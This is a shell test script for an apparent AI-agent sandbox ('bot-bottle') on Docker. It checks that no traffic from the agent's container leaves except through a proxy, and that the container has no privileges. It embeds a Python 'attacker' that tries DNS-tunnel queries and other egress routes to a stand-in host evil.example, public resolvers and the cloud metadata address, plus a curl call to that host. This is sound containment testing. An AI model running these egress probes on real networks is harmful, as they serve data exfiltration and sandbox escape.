#!/bin/sh
# shellcheck disable=SC2016 # the bottle's dollars
test_title='nothing of a bottle on a Docker engine arrives anywhere but through the proxy'
# shellcheck source=t/lib/tap.sh
. "$(dirname "$0")/../lib/tap.sh"
# shellcheck source=t/lib/docker.sh
. "$BB_SOURCE/t/lib/docker.sh"

if [ "$(id -u)" -ne 0 ]; then
	skip "$test_title" 'only root can look at every packet of this machine'
	done_testing
fi

start_origin api
api_port=$tls
start_origin evil
evil_port=$plain
routes <<END
- host: api.example.com
  upstream: {connect: "$host:$api_port", ca_file: "$PWD/ca/ca.pem"}
END

# Every packet on every interface of this machine that holds the marker, one line for each.
marker=leak-$(openssl rand -hex 8)
cat >sniff.py <<'END'
import socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
print("ready", flush=True)
while True:
    packet, address = s.recvfrom(65535)
    if sys.argv[1].encode() in packet.lower():
        print(address[0], flush=True)
END
python3 sniff.py "$marker" >seen &
at_exit "kill $!"
check 'all packets are looked at' wait_for grep -q ready seen

# The name server that the engine asks, if it is ours: the authority for every name.
# It writes down what it is asked.
cat >names.py <<'END'
import socket, sys, threading
def answer(query):
    print(query[12:].decode("latin-1").lower().encode("unicode_escape").decode(), flush=True)
    return query[:2] + b"\x81\x80" + query[4:6] + b"\0\0\0\0\0\0" + query[12:]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind((sys.argv[1], 53))
tcp = socket.create_server((sys.argv[1], 53))
def streams():
    while True:
        client = tcp.accept()[0]
        query = answer(client.recv(65536)[2:])
        client.sendall(len(query).to_bytes(2, "big") + query)
        client.close()
threading.Thread(target=streams, daemon=True).start()
print("ready", flush=True)
while True:
    query, address = udp.recvfrom(65536)
    udp.sendto(answer(query), address)
END
: >asked
if [ -n "${BB_NAME_SERVER-}" ]; then
	python3 names.py "$BB_NAME_SERVER" >asked 2>/dev/null &
	at_exit "kill $!"
	check 'a name server listens' wait_for grep -q ready asked
fi

# The attacker, in a language that asks for nothing but an interpreter.
cat >attack.py <<END
import socket
MARKER = "$marker"
label = bytes([len(MARKER)]) + MARKER.encode()
query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + label + b"\x04evil\x07example\0\0\x01\0\x01"
gateway = "$host"
answers = 0
for address in (gateway, "${BB_NAME_SERVER:-$host}", "8.8.8.8", "127.0.0.11", "127.0.0.1", "127.0.0.53", "172.17.0.1", "169.254.169.254"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for port in (53, $evil_port):
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(0.2)
                try:
                    s.connect((address, port))
                    s.send(query if kind == socket.SOCK_DGRAM else len(query).to_bytes(2, "big") + query)
                    if s.recv(512):
                        answers += 1
                except OSError:
                    pass
for address in ("2001:4860:4860::8888", "ff02::1", "fe80::1%1"):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(query, (address, 53))
        except OSError:
            pass
for name in (MARKER + ".evil.example", MARKER + ".egress"):
    try:
        answers += len(socket.getaddrinfo(name, 80))
    except OSError:
        pass
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
                     (socket.AF_PACKET, socket.SOCK_DGRAM)):
    try:
        socket.socket(family, kind, socket.IPPROTO_ICMP)
        answers += 1
    except OSError:
        pass
print("answers", answers)
END
bottle 0 'the attacker runs' "python3 - <<'E'
$(cat attack.py)
E
curl -sS -o /dev/null -w '%{http_code}\n' https://$marker.evil.example/ || true
curl -sS -o /dev/null -w '%{http_code}\n' https://api.example.com/bytes/1
getent hosts egress; cat /etc/resolv.conf"
[ "$(head -n 1 out)" = 'answers 0' ] || tap_show err
is "$(cat out)" 'answers 0
403
200
127.0.0.1       egress
nameserver 127.0.0.1' 'and gets no answer but the proxy'\''s'
is "$(wc -c <evil.arrived | tr -d ' ')" 0 'nothing has arrived at the attacker'
is "$(grep -vc ready seen)" 0 'no packet with the marker was on any interface of this machine'

is "$(grep -c "$marker" asked)" 0 'the name server was asked nothing'

# The same attack from a container as the engine makes it by itself is seen.
docker run --rm --network "$lan" --dns-option timeout:1 --dns-option attempts:1 "$BOT_BOTTLE_DOCKER_BASE" python3 \
	-c "$(cat attack.py)" >out 2>err
check 'the same from an ordinary container is seen' wait_for grep -qv ready seen
is "$(wc -c <evil.arrived | tr -d ' ' | sed 's/^[1-9].*/some/')" some 'and arrives'
if [ -n "${BB_NAME_SERVER-}" ]; then
	docker run --rm --network "$lan" "$BOT_BOTTLE_DOCKER_BASE" getent hosts "$marker.embedded.example" >out 2>err
	check 'the name server is asked, by the resolver that is built into the engine' grep -q "$marker.*embedded" \
		asked
else
	skip 'the name server is asked' 'this engine asks another'
fi

# What it is made of.
bb start tester --backend docker --yes --headless --label looked --prompt 'echo up; exec sleep 1000' >said 2>err \
	</dev/null &
bottle=$!
at_exit "kill $bottle"
wait_for grep -q up said
docker inspect bot-bottle-looked >inspected
is "$(jq -c '.[0] | [.Config.User, .HostConfig.CapDrop, .HostConfig.SecurityOpt, .HostConfig.Privileged, .HostConfig.NetworkMode, .HostConfig.Binds, .HostConfig.PidsLimit, [.Mounts[].Destination]]' inspected)" \
	'["1000:1000",["ALL"],["no-new-privileges"],false,"none",null,4096,["/run/bot-bottle-door"]]' \
	'the agent'\''s container has no power, no network and no file of the host'
docker inspect bot-bottle-sidecars-looked >inspected
is "$(jq -c --arg s "$home/state/looked" '.[0] | [.HostConfig.CapDrop, .HostConfig.SecurityOpt, .HostConfig.ReadonlyRootfs, .HostConfig.LogConfig.Type, (([.Mounts[].Destination] - [$s]) | map(sub("^.*/ca/"; "/ca/")) | sort)]' inspected)" \
	'[["ALL"],["no-new-privileges"],true,"none",["/ca/ca.pem","/etc/passwd","/run/bot-bottle-door"]]' \
	'the sidecar'\''s is read-only'
unlike "$(jq -r '.[0].Config.User' inspected)" '^(0|root)?:' 'and not root'"'"'s'
docker top bot-bottle-looked -eo pid,uid,args >top
unlike "$(tail -n +2 top)" '^ *[0-9]+ +0 ' 'no process of the agent'"'"'s is'
kill $bottle
wait $bottle
rm -rf home/state
is "$(leftovers)" '' 'nothing is left'
done_testing
